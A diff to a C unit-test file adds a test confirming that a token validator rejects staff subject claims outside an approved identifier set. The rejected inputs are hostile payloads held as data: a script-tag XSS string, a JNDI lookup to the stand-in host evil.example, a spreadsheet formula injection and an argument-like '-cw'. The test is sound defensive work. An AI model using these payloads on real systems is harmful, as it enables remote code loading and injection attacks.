@@ -1000,6 +1000,28 @@ Test(token, sub_with_control_character_rejected)
     tok_expect(c, TOKEN_SUBJECT_INVALID);
 }
 
+Test(token, staff_sub_outside_the_staff_identifier_set_rejected)
+{
+    static const char *const bad[] = {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
+                                      "=HYPERLINK(\"x\")", "-cw", "anna hansen"};
+    static const char *const roles[] = {"caseworker", "team_lead", "integration", "auditor", "appeals_board"};
+
+    for (size_t r = 0; r < sizeof(roles) / sizeof(roles[0]); r++)
+        for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+            json_t *c = tok_claims(roles[r]);
+            json_object_set_new(c, "sub", json_string(bad[i]));
+            tok_expect(c, TOKEN_SUBJECT_INVALID);
+        }
+    /* Positive control: an identifier of the set, and a citizen's pseudonym outside it
+     * (the broker's, recorded but never shown). */
+    json_t *c = tok_claims("caseworker");
+    json_object_set_new(c, "sub", json_string("anna.hansen@vejle.dk"));
+    tok_expect(c, TOKEN_OK);
+    c = tok_claims("citizen");
+    json_object_set_new(c, "sub", json_string("https://broker.example/pseudonym/4f1c"));
+    tok_expect(c, TOKEN_OK);
+}
+
 Test(token, sub_as_number_rejected)
 {
     json_t *c = tok_claims("citizen");
